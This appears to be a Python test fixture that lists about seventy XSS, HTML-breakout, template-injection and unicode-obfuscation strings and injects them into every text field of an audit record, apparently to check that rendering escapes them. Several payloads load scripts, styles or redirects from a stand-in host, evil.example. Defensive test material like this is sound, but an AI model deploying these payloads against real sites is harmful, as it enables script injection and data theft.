"""Texts that try to be more than text, and a record that is full of one of them."""

from typing import Any

from rich_records import rich_record

SENTINEL = "data-owned"
"""Attribute that every script below would set on the page if it ran."""
RUN = f"document.documentElement.setAttribute('{SENTINEL}','1')"

INJECTIONS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\t>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</svg><script>{RUN}</script>",
    f"</desc></svg><script>{RUN}</script>",
    f"</figure></section></main><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    f"</text><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'/></foreignObject>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/>",
    "<svg><image href=//evil.example/x.png /></svg>",
    f"<svg onload={RUN}>",
    f"'><svg onload={RUN}>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"`><img src=x onerror={RUN}>",
    "<img src=//evil.example/x.png>",
    f"<img src=javascript:{RUN}>",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"x onpointerenter={RUN} y",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=java\tscript:{RUN}>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+>x</a>",
    f"<form action=javascript:{RUN}><button>x",
    "<form action=//evil.example><button formaction=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style>*{display:none}</style>",
    "} body { display: none } .x {",
    "*/ body{background:url(//evil.example/x)} /*",
    '" style="background:url(//evil.example/x)',
    "' style='position:fixed;inset:0;background:white' x='",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "{{ ''.__class__.__mro__ }}",
    "%s %(x)s {0} {x} ${x}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "&#60;script&#62;&#x3c;",
    f"\x00<scr\x00ipt>{RUN}</script>\x1b[31m\x08",
    f"<\u202escript>\u2066{RUN}\u2069",
    "\u200bzero\u200dwidth\u2060\ufeff\u061c\u2028\u2029",
    "\ud800<script>\udfff",
    "＜script＞ \u02c2script\u02c3",
    f"<math><mtext></table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    "javascript:alert(1)//http://evil.example",
]
KEPT = ("statistic", "outcome", "family", "level", "kind", "unit", "verdict", "measure", "format")
"""Fields in which the format allows nothing but words of its own."""
PLAIN = "harmless words"


def everywhere(value: Any, text: str, name: str = "") -> Any:
    """Every text of a value replaced, but the words the format itself chooses among."""
    if isinstance(value, str):
        return value if name in KEPT else text
    if isinstance(value, dict):
        return {key: everywhere(part, text, key) for key, part in value.items()}
    if isinstance(value, list):
        return [everywhere(part, text, name) for part in value]
    return value


def hostile_record(text: str) -> dict[str, Any]:
    """An audit that fits its format, with a text in every place that holds text or a name."""
    record = rich_record()
    record = {**everywhere(record, text), "families": record["families"]}
    record["release"]["require"] = "forgotten-blackbox"
    for attack in record["attacks"].values():
        attack["parts"]["model"] |= {text: 0.5, f"auc_{text}": 0.5}
        for who in ("original", "model", "control"):
            attack["per_row"][who] = renamed(attack["per_row"][who], text)
            attack["beside"][who][text] = {text: 0.5}
    record["attacks"] = renamed(record["attacks"], text)
    record["families"] |= {text: "pass"}
    for who in ("model", "original"):
        record["metrics"]["probability"][who]["per_row"][text] = 0.5
    record["metrics"][text] = record["metrics"]["probability"]
    record["request"]["entities"] = {text: text, f"{text}1": None}
    for part in ("versions", "data"):
        record[part] = renamed(record[part], text)
    for planned in record["plan"]:
        planned["params"] = {text: [text, {text: text}]}
    return record


def renamed(named: dict[str, Any], text: str) -> dict[str, Any]:
    """Every name replaced."""
    return {f"{text}{rank or ''}": one for rank, one in enumerate(named.values())}
